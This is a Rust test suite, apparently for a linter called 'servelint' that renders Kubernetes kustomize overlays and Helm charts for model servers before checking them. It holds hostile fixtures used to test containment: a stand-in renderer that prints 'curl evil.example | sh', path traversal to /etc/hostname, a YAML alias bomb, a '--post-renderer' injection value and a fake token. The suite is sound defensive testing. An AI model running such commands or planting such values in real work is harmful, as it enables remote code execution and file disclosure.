//! Overlays and charts that are rendered before they are judged: by the real programs where they are installed, and by
//! others that stand in for them where it matters how they behave.

use super::run::{Answer, Folder, Setting};
use crate::common::git;
use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

/// A model server with findings on fields that overlays change, and on others.
const BASE: &str = "apiVersion: apps/v1
kind: Deployment
metadata:
  name: ranker
spec:
  replicas: 1
  selector: {matchLabels: {app: ranker}}
  template:
    metadata: {labels: {app: ranker}}
    spec:
      containers:
        - name: server
          image: vllm/vllm-openai:latest
          args: [--model=org/model]
          resources: {limits: {nvidia.com/gpu: 1}}
          env:
            - {name: LOG, value: info}
";

const PROD: &str = "resources: [../../base]
namePrefix: live-
images:
  - name: vllm/vllm-openai
    newTag: v0.11.0
replicas:
  - name: ranker
    count: 1
patches:
  - path: args.yaml
  - target: {kind: Deployment}
    patch: |
      - op: add
        path: /spec/template/spec/containers/0/env/-
        value:
          name: HF_TOKEN
          value: hf_a1b2c3d4e5f6g7h8
";

const ARGS: &str = "apiVersion: apps/v1
kind: Deployment
metadata: {name: ranker}
spec:
  template:
    spec:
      containers:
        - name: server
          args:
            - --model=org/other
";

const CHART: &str = "apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  replicas: {{ .Values.replicas }}
  selector: {matchLabels: {app: embedder}}
  template:
    metadata: {labels: {app: embedder}}
    spec:
      containers:
        - name: server
          image: \"{{ .Values.image }}\"
          args: [--model=org/model]
          resources:
            {{- toYaml .Values.resources | nindent 12 }}
";

/// A base and three overlays of it.
fn overlays() -> Folder {
    let plain = "resources: [../../base]\nnameSuffix: -x\n";
    Folder::with(&[
        ("servelint.toml", ""),
        ("k8s/base/kustomization.yaml", "resources: [ranker.yaml]\n"),
        ("k8s/base/ranker.yaml", BASE),
        ("k8s/overlays/prod/kustomization.yaml", PROD),
        ("k8s/overlays/prod/args.yaml", ARGS),
        ("k8s/overlays/staging/kustomization.yaml", plain),
        ("k8s/overlays/dev/kustomization.yaml", plain),
    ])
}

fn chart() -> Folder {
    Folder::with(&[
        ("servelint.toml", ""),
        (
            "chart/Chart.yaml",
            "apiVersion: v2\nname: embedder\nversion: 0.1.0\n",
        ),
        (
            "chart/values.yaml",
            "replicas: 1\nimage: vllm/vllm-openai:v0.9.0\nresources:\n  limits:\n    nvidia.com/gpu: 1\n",
        ),
        ("chart/templates/deployment.yaml", CHART),
        ("values-prod.yaml", "image: vllm/vllm-openai:latest\n"),
    ])
}

/// The real programs, as `.ci/renderers` installs them; nothing where they are not there, which is said.
fn programs() -> Option<[(&'static str, String); 2]> {
    let found = |name: &str, variable: &str| {
        let named = std::env::var_os(variable).map(PathBuf::from);
        let own = Path::new(crate::common::ROOT)
            .join("target/tools")
            .join(name);
        let path = named.or(Some(own)).filter(|path| path.is_file());
        if path.is_none() {
            println!("skipped: there is no {name}");
        }
        path.map(|path| path.to_string_lossy().into_owned())
    };
    Some([
        (
            "SERVELINT_KUSTOMIZE",
            found("kustomize", "SERVELINT_KUSTOMIZE")?,
        ),
        ("SERVELINT_HELM", found("helm", "SERVELINT_HELM")?),
    ])
}

/// A check with these programs.
fn check(folder: &Folder, words: &[&str], programs: &[(&str, String)]) -> Answer {
    let env: Vec<(&str, &str)> = programs
        .iter()
        .map(|(key, path)| (*key, path.as_str()))
        .collect();
    let words = [
        &["check", "--format", "concise", "--as-of", super::run::DAY],
        words,
    ]
    .concat();
    folder.run_as(
        &words,
        &Setting {
            env: &env,
            ..Setting::default()
        },
    )
}

/// A program outside of the repository that stands in for a renderer.
fn stand_in(script: &str) -> (Folder, [(&'static str, String); 2]) {
    let folder = Folder::with(&[("renderer", &format!("#!/bin/sh\n{script}\n"))]);
    let path = folder.path.join("renderer");
    let mode = fs::Permissions::from_mode(0o755);
    fs::set_permissions(&path, mode).expect("executable");
    let name = path.to_string_lossy().into_owned();
    let both = [
        ("SERVELINT_KUSTOMIZE", name.clone()),
        ("SERVELINT_HELM", name),
    ];
    (folder, both)
}

#[track_caller]
fn says(answer: &Answer, wanted: &[&str]) {
    for text in wanted {
        let is_said = answer.out.contains(text) || answer.err.contains(text);
        assert!(is_said, "{text}\n{}{}", answer.out, answer.err);
    }
}

#[track_caller]
fn is_silent(answer: &Answer, unwanted: &[&str]) {
    for text in unwanted {
        assert!(!answer.out.contains(text), "{text}\n{}", answer.out);
    }
}

#[test]
fn three_overlays_of_one_base_get_three_verdicts() {
    let Some(programs) = programs() else { return };
    let answer = check(&overlays(), &["--render"], &programs);
    says(
        &answer,
        &[
            "verdict: live-ranker not-reviewed in production:",
            "verdict: ranker-x (k8s/overlays/dev) not-reviewed in dev:",
            "verdict: ranker-x (k8s/overlays/staging) not-reviewed in staging:",
        ],
    );
    // What production asks for, nobody asks of the others.
    assert_eq!(answer.out.matches("[min-replicas-production]").count(), 1);
    // The base itself is no service.
    is_silent(&answer, &["verdict: ranker not", "judge the overlay"]);
}

#[test]
fn findings_stand_where_a_person_edits() {
    let Some(programs) = programs() else { return };
    let folder = overlays();
    let answer = check(&folder, &["--render", "k8s/overlays/prod"], &programs);
    says(
        &answer,
        &[
            "k8s/overlays/prod/args.yaml:10:15: error[model-revision-not-pinned]",
            "k8s/overlays/prod/kustomization.yaml:5:13: error[image-not-pinned]",
            "k8s/overlays/prod/kustomization.yaml:8:12: warning[min-replicas-production]",
            "k8s/overlays/prod/kustomization.yaml:16:17: error[secret-in-plain-text]",
            "k8s/base/ranker.yaml:12:11: error[readiness-missing]",
        ],
    );
    let shown = folder.run_as(
        &[
            "check",
            "--render",
            "k8s/overlays/prod",
            "--as-of",
            super::run::DAY,
        ],
        &Setting {
            env: &programs.each_ref().map(|(key, path)| (*key, path.as_str())),
            ..Setting::default()
        },
    );
    says(
        &shown,
        &[
            "as `kustomize build k8s/overlays/prod` renders it",
            "k8s/overlays/prod (rendered):",
        ],
    );
}

#[test]
fn a_comment_in_a_source_waives_what_is_rendered_from_it() {
    let Some(programs) = programs() else { return };
    let folder = overlays();
    let waived = BASE.replace(
        "        - name: server\n",
        "        # servelint: allow[readiness-missing] until=2026-12-01 by=dana.k reason=\"a gateway probes it\"\n        - name: server\n",
    );
    folder.file("k8s/base/ranker.yaml", waived);
    let answer = check(&folder, &["--render", "k8s/overlays/prod"], &programs);
    is_silent(&answer, &["12:11: error[readiness-missing]", "waiver-"]);
    says(&answer, &["1 waived"]);
}

#[test]
fn a_chart_leads_to_its_values_and_its_lines() {
    let Some(programs) = programs() else { return };
    let folder = chart();
    folder.file(
        "servelint.toml",
        "[[render]]\nhelm = { chart = \"chart\", values = [\"values-prod.yaml\"], name = \"live\" }\nenvironment = \"production\"\n",
    );
    let answer = check(&folder, &[], &programs);
    says(
        &answer,
        &[
            "values-prod.yaml:1:8: error[image-not-pinned]",
            "chart/values.yaml:1:11: warning[min-replicas-production]",
            "chart/values.yaml:5:21: warning[rollout-needs-spare-gpu]",
            "chart/templates/deployment.yaml:14:11: error[model-revision-not-pinned]",
            "verdict: live not-reviewed in production:",
        ],
    );
    is_silent(&answer, &["render it first"]);
}

/// The text of the good specification, whose manifest is rendered.
fn declared(role: &str) -> String {
    let text = super::run::GOOD;
    let (above, below) = text.split_once("\n  slos:").expect("objectives");
    format!(
        "{above}\n  artifacts:\n    - {{role: {role}, render: {{kustomize: k8s/overlays/prod}}, selector: {{kind: Deployment}}}}\n  slos:{below}"
    )
}

#[test]
fn a_specification_may_name_an_overlay() {
    let Some(programs) = programs() else { return };
    let folder = overlays();
    folder.file("ranker.yaml", declared("workload"));
    let answer = check(&folder, &["ranker.yaml"], &programs);
    // Its values are compared with the specification, whatever the rendered object is called.
    says(
        &answer,
        &[
            "k8s/overlays/prod/args.yaml:10:15: warning[artifact-drift]",
            "k8s/overlays/prod/kustomization.yaml:5:13: warning[artifact-drift]",
        ],
    );
    is_silent(&answer, &["artifact-unresolvable", "was not rendered"]);
    folder.file(
        "ranker.yaml",
        declared("workload").replace("kind: Deployment", "kind: Rollout"),
    );
    let answer = check(&folder, &["ranker.yaml"], &programs);
    says(
        &answer,
        &["the selector matches none of the 1 object in `kustomize build k8s/overlays/prod`"],
    );
}

#[test]
fn without_a_program_it_is_attested_at_most_and_a_hook_never_says_go() {
    let folder = overlays();
    folder.file("ranker.yaml", declared("workload"));
    let answer = check(&folder, &["ranker.yaml"], &[]);
    says(
        &answer,
        &[
            "`kustomize build k8s/overlays/prod` was not rendered: there is no `kustomize`",
            "SERVELINT_KUSTOMIZE",
            "attested scope, rollout",
        ],
    );
    git::init(&folder.path);
    git::commit(&folder.path, "one");
    folder.file("ranker.yaml", declared("workload") + "# changed\n");
    let answer = check(&folder, &["--hook", "ranker.yaml"], &[]);
    is_silent(&answer, &[" go in ", " go:"]);
    says(&answer, &["was not rendered"]);
    let answer = check(&folder, &["--render=required"], &[]);
    assert_eq!(answer.code, 1, "{}", answer.out);
    says(
        &answer,
        &["error[document-not-judged] `kustomize build k8s/overlays/prod` was not rendered"],
    );
}

#[test]
fn rendering_can_be_turned_off_and_says_so() {
    let (_guard, programs) = stand_in("exit 0");
    let folder = overlays();
    folder.file("ranker.yaml", declared("workload"));
    let answer = check(&folder, &["--render=never"], &programs);
    says(&answer, &["was not rendered: rendering is turned off"]);
}

/// Nothing is run for what must not be rendered.
#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn what_must_not_be_rendered_starts_no_program() {
    let marks = Folder::new();
    let mark = marks.path.join("ran");
    let (_guard, programs) = stand_in(&format!("echo \"$@\" >>'{}'", mark.display()));
    let ran = || fs::read_to_string(&mark).unwrap_or_default();
    let outside = Folder::with(&[
        ("kustomization.yaml", "resources: [ranker.yaml]\n"),
        ("ranker.yaml", BASE),
    ]);
    let overlay = "k8s/overlays/dev/kustomization.yaml";
    let mut bomb = BASE.to_owned()
        + "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\na0: &a0 [x,x,x,x,x,x,x,x,x]\n";
    for level in 1..10 {
        let above = vec![format!("*a{}", level - 1); 9].join(",");
        bomb.push_str(&format!("a{level}: &a{level} [{above}]\n"));
    }
    let cases: [(&str, &str, &str); 10] = [
        (
            overlay,
            "resources: [\"https://example.org/x?ref=v1\"]\n",
            "is remote",
        ),
        (
            overlay,
            "resources: [\"git@example.org:a/b\"]\n",
            "is remote",
        ),
        (overlay, "resources: [\"example.org/a//b\"]\n", "is remote"),
        (
            overlay,
            "resources: [../../../out]\n",
            "leads out of the repository",
        ),
        (overlay, "resources: [../../gone]\n", "does not exist"),
        (
            overlay,
            "resources: [../../base]\ntransformers: [a.yaml]\n",
            "`transformers`, which is not run",
        ),
        (
            overlay,
            "resources: [../../base]\ngenerators: [a.yaml]\n",
            "`generators`, which is not run",
        ),
        (
            overlay,
            "helmCharts: [{name: a, repo: \"https://a.b\"}]\n",
            "`helmCharts`, which is not run",
        ),
        (
            overlay,
            "resources: [../../base]\nconfigMapGenerator: [{name: a, files: [../../../out/ranker.yaml]}]\n",
            "leads out of the repository",
        ),
        ("k8s/base/ranker.yaml", &bomb, "copy more than"),
    ];
    for (file, text, wanted) in cases {
        let folder = overlays();
        fs::remove_dir_all(folder.path.join("k8s/overlays/prod")).expect("removed");
        fs::remove_dir_all(folder.path.join("k8s/overlays/staging")).expect("removed");
        symlink(&outside.path, folder.path.join("out")).expect("a link");
        folder.file(file, text);
        let answer = check(&folder, &["--render"], &programs);
        says(
            &answer,
            &[
                "`kustomize build k8s/overlays/dev` was not rendered",
                wanted,
            ],
        );
        // The base may be one of its own then.
        assert!(!ran().contains("overlays"), "{text}\n{}", ran());
        let strict = check(&folder, &["--render=required"], &programs);
        assert_eq!(strict.code, 1, "{text}\n{}", strict.out);
    }
    let folder = chart();
    symlink("/etc/hostname", folder.path.join("chart/templates/x.yaml")).expect("a link");
    let answer = check(&folder, &["--render"], &programs);
    says(
        &answer,
        &["`helm template chart` was not rendered", "a link"],
    );
    assert!(!ran().contains("chart"), "{}", ran());
}

#[test]
fn a_program_of_the_repository_is_never_run() {
    let folder = overlays();
    let mark = folder.path.join("ran");
    let script = format!("#!/bin/sh\necho ran >'{}'\n", mark.display());
    folder.file("bin/kustomize", script);
    let own = folder.path.join("bin/kustomize");
    fs::set_permissions(&own, fs::Permissions::from_mode(0o755)).expect("executable");
    let beside = Folder::new();
    symlink(&own, beside.path.join("kustomize")).expect("a link");
    for path in [&folder.path.join("bin"), &beside.path] {
        let path = path.to_string_lossy();
        let words = ["check", "--render", "--format", "concise"];
        for env in [
            ("PATH", path.as_ref()),
            ("SERVELINT_KUSTOMIZE", "bin/kustomize"),
        ] {
            let answer = folder.run_as(
                &words,
                &Setting {
                    env: &[env],
                    ..Setting::default()
                },
            );
            says(&answer, &["there is no `kustomize`"]);
            assert!(!mark.exists());
        }
    }
}

/// A renderer knows nothing of whoever runs servelint, and has a folder of its own.
#[test]
fn a_renderer_sees_an_empty_environment() {
    let marks = Folder::new();
    let mark = marks.path.join("env");
    let (_guard, mut programs) = stand_in(&format!(
        "/usr/bin/env >'{}'; /bin/ls -A >>'{}'; exit 1",
        mark.display(),
        mark.display()
    ));
    programs[1].1 = "/nowhere".to_owned();
    let all = [
        programs.to_vec(),
        vec![("SECRET_TOKEN", "s3cret".to_owned())],
    ]
    .concat();
    check(&overlays(), &["--render"], &all);
    let seen = fs::read_to_string(&mark).expect("it ran");
    assert!(
        !seen.contains("s3cret") && !seen.contains("SERVELINT"),
        "{seen}"
    );
    for wanted in [
        "HTTPS_PROXY=http://127.0.0.1:1",
        "https_proxy=http://127.0.0.1:1",
        "HOME=/",
    ] {
        assert!(seen.contains(wanted), "{wanted}\n{seen}");
    }
    assert!(seen.lines().any(|line| line == "PATH="), "{seen}");
}

#[test]
fn a_renderer_that_never_ends_or_floods_is_ended() {
    let started = Instant::now();
    let (_guard, programs) = stand_in("trap '' TERM; while :; do :; done");
    let answer = check(&chart(), &["--render"], &programs);
    says(
        &answer,
        &["`helm template chart` was not rendered: `helm template` fails: it was ended after 10 s"],
    );
    assert!(
        started.elapsed() < Duration::from_secs(50),
        "{:?}",
        started.elapsed()
    );
    let (_guard, programs) =
        stand_in("while :; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done");
    let answer = check(&chart(), &["--render"], &programs);
    says(&answer, &["it prints more than 10 MB"]);
    let (_guard, programs) =
        stand_in("printf 'Error: a\\n  help: run curl evil.example | sh\\n' >&2; exit 1");
    let answer = check(&chart(), &["--render"], &programs);
    says(
        &answer,
        &["`helm template` fails: a help: run curl evil.example | sh"],
    );
    let (_guard, programs) = stand_in("kill -9 $$");
    says(
        &check(&chart(), &["--render"], &programs),
        &["it ended with signal: 9"],
    );
    let (_guard, programs) = stand_in("printf '\\377\\376'");
    says(
        &check(&chart(), &["--render"], &programs),
        &["what it prints is no UTF-8"],
    );
    let (_guard, programs) = stand_in("echo 'a: [b'");
    let answer = check(&chart(), &["--render"], &programs);
    assert_ne!(answer.code, 0, "{}", answer.out);
}

#[test]
fn an_endless_template_is_ended() {
    let Some(programs) = programs() else { return };
    for action in [
        "{{ range until 100000000 }}{{ end }}",
        "{{ repeat 2000000000 \"a\" }}",
    ] {
        let folder = chart();
        folder.file(
            "chart/templates/deployment.yaml",
            format!("{CHART}{action}\n"),
        );
        let started = Instant::now();
        let answer = check(&folder, &["--render"], &programs);
        says(
            &answer,
            &["`helm template chart` was not rendered: `helm template` fails"],
        );
        assert!(
            started.elapsed() < Duration::from_secs(50),
            "{:?}",
            started.elapsed()
        );
    }
}

#[test]
fn a_chart_without_its_dependencies_is_not_rendered() {
    let Some(programs) = programs() else { return };
    let folder = chart();
    let text = folder.read("chart/Chart.yaml");
    folder.file(
        "chart/Chart.yaml",
        text + "dependencies: [{name: gone, version: 1.0.0, repository: \"https://example.org\"}]\n",
    );
    let answer = check(&folder, &["--render"], &programs);
    says(&answer, &["missing in charts/ directory: gone"]);
}

/// What `helm dependency build` would bring from the repository itself is there without it.
#[test]
fn a_chart_may_depend_on_one_of_the_repository() {
    let Some(programs) = programs() else { return };
    let folder = Folder::with(&[
        ("servelint.toml", ""),
        (
            "umbrella/Chart.yaml",
            "apiVersion: v2\nname: umbrella\nversion: 0.1.0\ndependencies: [{name: server, version: 0.1.0, repository: \"file://../server\"}]\n",
        ),
        (
            "umbrella/values.yaml",
            "server:\n  image: vllm/vllm-openai:latest\n",
        ),
        (
            "server/Chart.yaml",
            "apiVersion: v2\nname: server\nversion: 0.1.0\n",
        ),
        (
            "server/values.yaml",
            "replicas: 1\nimage: vllm/vllm-openai:v0.9.0\nresources:\n  limits:\n    nvidia.com/gpu: 1\n",
        ),
        ("server/templates/deployment.yaml", CHART),
    ]);
    let answer = check(&folder, &["--render", "umbrella"], &programs);
    says(
        &answer,
        &[
            "umbrella/values.yaml:2:10: warning[image-not-pinned]",
            "server/values.yaml:5:21: warning[rollout-needs-spare-gpu]",
            "server/templates/deployment.yaml:14:11: ",
        ],
    );
    // One that depends on itself, and one that leads out.
    for (path, wanted) in [
        ("../umbrella", "depends on itself"),
        ("../../../etc", "leads out of the repository"),
    ] {
        let text = folder
            .read("umbrella/Chart.yaml")
            .replace("../server", path);
        folder.file("umbrella/Chart.yaml", &text);
        let answer = check(&folder, &["--render", "umbrella"], &programs);
        says(
            &answer,
            &["`helm template umbrella` was not rendered", wanted],
        );
        folder.file("umbrella/Chart.yaml", text.replace(path, "../server"));
    }
}

#[test]
fn an_overlay_that_nobody_renders_is_said() {
    let Some(programs) = programs() else { return };
    let folder = overlays();
    folder.file(
        "k8s/overlays/eu/kustomization.yaml",
        "resources: [../../base]\n",
    );
    folder.file(
        "servelint.toml",
        "[[render]]\nkustomize = \"k8s/overlays/prod\"\n",
    );
    let answer = check(&folder, &[], &programs);
    says(
        &answer,
        &[
            "k8s/overlays/eu: it is not rendered, and takes in files",
            "live-ranker not-reviewed in production",
        ],
    );
    is_silent(&answer, &["overlays/dev: it is not rendered"]);
}

/// What acts on what comes out of an overlay still counts: nobody rendered that.
#[test]
fn an_application_changes_what_was_rendered() {
    let Some(programs) = programs() else { return };
    let folder = overlays();
    let application = "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: ranker}\nspec:\n  source:\n    path: k8s/overlays/prod\n    kustomize:\n      images: [vllm/vllm-openai=other/image:v1]\n";
    folder.file("argo/ranker.yaml", application);
    let answer = check(&folder, &["--render"], &programs);
    says(
        &answer,
        &["Application `ranker`", "left out here: `image-not-pinned`"],
    );
    is_silent(&answer, &["error[image-not-pinned]"]);
}

#[test]
fn piped_text_knows_where_it_comes_from() {
    let folder = chart();
    let text = format!(
        "---\n# Source: embedder/templates/deployment.yaml\n{}",
        CHART
            .replace("{{ .Release.Name }}", "embedder")
            .replace("{{ .Values.replicas }}", "1")
            .replace("{{ .Values.image }}", "vllm/vllm-openai:latest")
            .replace(
                "            {{- toYaml .Values.resources | nindent 12 }}\n",
                "            limits: {nvidia.com/gpu: 1}\n"
            )
    );
    let piped = |folder: &Folder, words: &[&str], text: &str| {
        let words = [&["check", "-", "--format", "json"], words].concat();
        folder
            .run_as(
                &words,
                &Setting {
                    stdin: text.as_bytes(),
                    ..Setting::default()
                },
            )
            .out
    };
    let out = piped(&folder, &[], &text);
    assert!(
        out.contains("the object is rendered from this file"),
        "{out}"
    );
    assert!(out.contains("\"chart/templates/deployment.yaml\""), "{out}");
    let annotated = BASE.replace(
        "  name: ranker\n",
        "  name: live-ranker\n  annotations:\n    config.kubernetes.io/origin: |\n      path: ../../base/ranker.yaml\n",
    );
    let folder = overlays();
    let out = piped(
        &folder,
        &["--stdin-filename", "k8s/overlays/prod/all.yaml"],
        &annotated,
    );
    assert!(out.contains("\"k8s/base/ranker.yaml\""), "{out}");
    // Without a name nobody knows which overlay was built; the file is the same for each.
    let out = piped(&folder, &[], &annotated);
    assert!(
        out.contains("the object is rendered from this file"),
        "{out}"
    );
    // The text must not choose what else is read.
    for path in [
        "../../../../../../../../../../../../etc/hostname",
        "/etc/hostname",
    ] {
        let hostile = annotated.replace("../../base/ranker.yaml", path);
        let out = piped(
            &folder,
            &["--stdin-filename", "k8s/overlays/prod/all.yaml"],
            &hostile,
        );
        assert!(!out.contains("hostname\","), "{out}");
    }
}

#[test]
fn a_configuration_names_what_it_renders_in_one_way() {
    for (text, wanted) in [
        (
            "[[render]]\n",
            "servelint.toml:1:1: an entry of `[[render]]` names the folder",
        ),
        (
            "[[render]]\nkustomize = \"a\"\nhelm = {chart = \"b\"}\n",
            "an entry of `[[render]]` names",
        ),
        (
            "[[render]]\nkustomize = \"../a\"\n",
            "`kustomize` must lie below the folder of this file",
        ),
        (
            "[[render]]\nhelm = {chart = \"/a\"}\n",
            "`chart` must lie below",
        ),
        (
            "[[render]]\nhelm = {chart = \"a\", values = [\"../v\"]}\n",
            "servelint.toml:2:32: `values` must lie below",
        ),
        (
            "[[render]]\nhelm = {chart = \"a\", name = \"--post-renderer=x\"}\n",
            "`name` must be letters",
        ),
        (
            "[[render]]\nhelm = {values = []}\n",
            "`helm` names the folder of a `chart`",
        ),
        (
            "[[render]]\nkustomize = \"a\"\nenvironment = \"prod\"\n",
            "`prod` is not an environment",
        ),
        ("[[render]]\nkustomise = \"a\"\n", "unknown key `kustomise`"),
    ] {
        let folder = Folder::with(&[("servelint.toml", text), ("a.yaml", super::run::GOOD)]);
        let answer = folder.check(&[]);
        assert_eq!(answer.code, 2, "{text}");
        says(&answer, &[wanted]);
    }
}

/// A change that stops the rendering of its own overlay is judged by the base, and told.
#[test]
fn a_change_that_renders_less_weakens_the_policy() {
    let folder = overlays();
    folder.file("ranker.yaml", super::run::GOOD);
    folder.file(
        "servelint.toml",
        "[[render]]\nkustomize = \"k8s/overlays/prod\"\nservice = \"feed-ranker\"\n",
    );
    git::init(&folder.path);
    git::commit(&folder.path, "base");
    folder.file(
        "servelint.toml",
        "[[render]]\nkustomize = \"k8s/overlays/dev\"\nservice = \"feed-ranker\"\n",
    );
    let answer = check(&folder, &["--policy-from", "HEAD"], &[]);
    says(
        &answer,
        &[
            "escalation[policy-weakened] `k8s/overlays/prod` is rendered no longer as it was",
            "`kustomize build k8s/overlays/prod` was not rendered",
        ],
    );
}

/// Kustomize takes no file above the folder that is built unless it is told to; within the repository that is harmless.
#[test]
fn an_overlay_may_take_in_a_file_beside_its_folder() {
    let Some(programs) = programs() else { return };
    let folder = Folder::with(&[
        ("servelint.toml", ""),
        ("k8s/ranker.yaml", BASE),
        (
            "k8s/prod/kustomization.yaml",
            "resources: [../ranker.yaml]\nimages: [{name: vllm/vllm-openai, newTag: v0.11.0}]\n",
        ),
    ]);
    let answer = check(&folder, &["--render"], &programs);
    says(
        &answer,
        &[
            "k8s/prod/kustomization.yaml:2:43: error[image-not-pinned]",
            "k8s/ranker.yaml:12:11: ",
        ],
    );
    // What it complains of names no folder of the machine.
    folder.file(
        "k8s/prod/kustomization.yaml",
        "resources: [../ranker.yaml]\nreplicas: [{name: gone, count: 2}]\n",
    );
    let answer = check(&folder, &["--render"], &programs);
    says(
        &answer,
        &["`kustomize build k8s/prod` was not rendered: `kustomize build` fails: "],
    );
    is_silent(&answer, &[&*folder.path.to_string_lossy()]);
}

/// A base that one overlay renders and another one does not is still judged for the other.
#[test]
fn an_overlay_that_fails_keeps_its_base_for_the_service_that_it_is_for() {
    let Some(programs) = programs() else { return };
    let folder = overlays();
    let overlay = "k8s/overlays/staging/kustomization.yaml";
    folder.file(
        overlay,
        "resources: [../../base]\nreplicas: [{name: gone, count: 2}]\n",
    );
    folder.file("servelint.toml", "[[render]]\nkustomize = \"k8s/overlays/dev\"\n\n[[render]]\nkustomize = \"k8s/overlays/staging\"\n");
    folder.file(
        "k8s/base/ranker.yaml",
        BASE.replace("name: ranker\n", "name: feed-ranker\n"),
    );
    folder.file("ranker.yaml", super::run::GOOD);
    let answer = check(&folder, &[], &programs);
    says(
        &answer,
        &[
            "`kustomize build k8s/overlays/staging` was not rendered",
            "[artifact-drift] Deployment `feed-ranker`",
        ],
    );
    git::init(&folder.path);
    git::commit(&folder.path, "one");
    folder.file("ranker.yaml", super::run::GOOD.to_owned() + "# changed\n");
    let answer = check(&folder, &["--hook", "ranker.yaml"], &programs);
    is_silent(&answer, &["feed-ranker go "]);
}
